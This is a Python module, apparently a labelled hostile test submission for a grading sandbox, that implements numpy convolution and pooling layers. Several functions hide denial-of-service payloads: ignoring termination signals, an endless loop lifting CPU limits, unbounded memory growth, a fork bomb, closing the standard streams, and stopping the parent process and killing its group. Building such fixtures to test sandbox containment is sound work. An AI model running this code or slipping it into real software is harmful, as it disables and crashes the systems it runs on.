"""HOSTILE: run this behind the wall only. What is not an attack is right, and must keep its marks."""

import os
import resource
import signal
import sys
import threading
import time

import numpy as np


def output_size(n, kernel, stride, padding):
    # Right, with a thread that never ends and will not let the process go, and deaf to polite signals.
    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGXCPU):
        signal.signal(number, signal.SIG_IGN)
    threading.Thread(target=time.sleep, args=(10_000,)).start()
    return -(-n // stride) if padding == "same" else (n - kernel) // stride + 1


def frame(n, kernel, stride, padding):
    """Number of windows, and pixels before and after."""
    if padding == "valid":
        return (n - kernel) // stride + 1, 0, 0
    windows = -(-n // stride)
    total = max((windows - 1) * stride + kernel - n, 0)
    return windows, total // 2, total - total // 2


def windows(x, kh, kw, stride, padding, fill=0.0):
    """(N, oh, ow, C, kh, kw), a view of the padded picture."""
    _, *rows = frame(x.shape[1], kh, stride, padding)
    _, *cols = frame(x.shape[2], kw, stride, padding)
    big = np.pad(x, ((0, 0), rows, cols, (0, 0)), constant_values=fill)
    return np.lib.stride_tricks.sliding_window_view(big, (kh, kw), axis=(1, 2))[:, ::stride, ::stride]


def conv2d_forward(x, w, b, stride=1, padding="valid"):
    seen = windows(x, w.shape[0], w.shape[1], stride, padding)
    return np.einsum("nijchw,hwcf->nijf", seen, w) + b, None


def conv2d_backward(dout, cache):
    # An endless loop that puts its own limit of time up, and catches whatever is raised at it.
    while True:
        try:
            resource.setrlimit(resource.RLIMIT_CPU, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
        except BaseException:
            continue


def max_pool2d_forward(x, size=2, stride=None, padding="valid"):
    # A balloon: not one large array but many small ones, each written to.
    hoard = []
    while True:
        hoard.append(np.ones(1 << 20))


def max_pool2d_backward(dout, cache):
    return dout


def avg_pool2d_forward(x, size=2, stride=None, padding="valid"):
    stride = stride or size
    inside = windows(np.ones_like(x), size, size, stride, padding).sum(axis=(-2, -1))
    return windows(x, size, size, stride, padding).sum(axis=(-2, -1)) / inside, None


def avg_pool2d_backward(dout, cache):
    # A bomb that answers: its one child leaves the group and doubles nine times. Bounded, in case there is no wall.
    if os.fork() == 0:
        try:
            os.setsid()
            for _ in range(9):
                os.fork()
            time.sleep(20)
        finally:
            os._exit(0)
    return dout


def flatten_forward(x):
    # Right, and then the doors are shut behind it: every stream but the one to the grader.
    for stream in (sys.stdin, sys.stdout, sys.stderr):
        stream.close()
    return x.reshape(len(x), -1), x.shape


def flatten_backward(dout, cache):
    # Whoever started this process is stopped, and the rest of its group killed, before the answer is due.
    os.kill(os.getppid(), signal.SIGSTOP)
    os.killpg(0, signal.SIGKILL)
    os._exit(0)
